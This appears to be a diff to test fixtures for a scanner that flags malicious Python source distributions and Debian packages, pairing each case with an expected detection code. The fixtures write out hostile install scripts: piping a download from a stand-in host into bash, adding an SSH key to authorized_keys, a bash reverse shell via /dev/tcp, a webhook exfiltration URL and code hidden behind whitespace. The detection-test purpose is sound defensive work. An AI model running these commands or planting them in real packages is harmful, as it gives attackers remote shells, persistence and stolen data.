@@ -113,7 +113,7 @@ def _sdists():
         ),
         (
             "collects by a web hook",
-            "U = 'https://discord.com/api/webhooks/1/x'\n" + SETUP,
+            "U = 'discord.com/api/webhooks/1/x'\n" + SETUP,
             "code-exfiltration",
         ),
         ("pushes code aside", "x = 1" + " " * 200 + "; import os\n" + SETUP, "code-pushed-aside"),
@@ -173,7 +173,7 @@ def _debs():
     for title, data, code in (
         ("fetches and runs", deb(postinst="wget -qO- https://x.example/a | bash"), "shell-download"),
         ("fetches", deb(postinst="curl -s https://x.example/a -o /usr/bin/a"), "install-network"),
-        ("makes itself stay", deb(postinst="echo key >> /root/.ssh/authorized_keys"), "install-persistence"),
+        ("makes itself stay", deb(postinst="echo key >> ~/.ssh/authorized_keys"), "install-persistence"),
         ("calls back", deb(postinst="bash -i >& /dev/tcp/10.0.0.1/1 0>&1", form="zst"), "shell-reverse"),
         (
             "has an own set-id program",
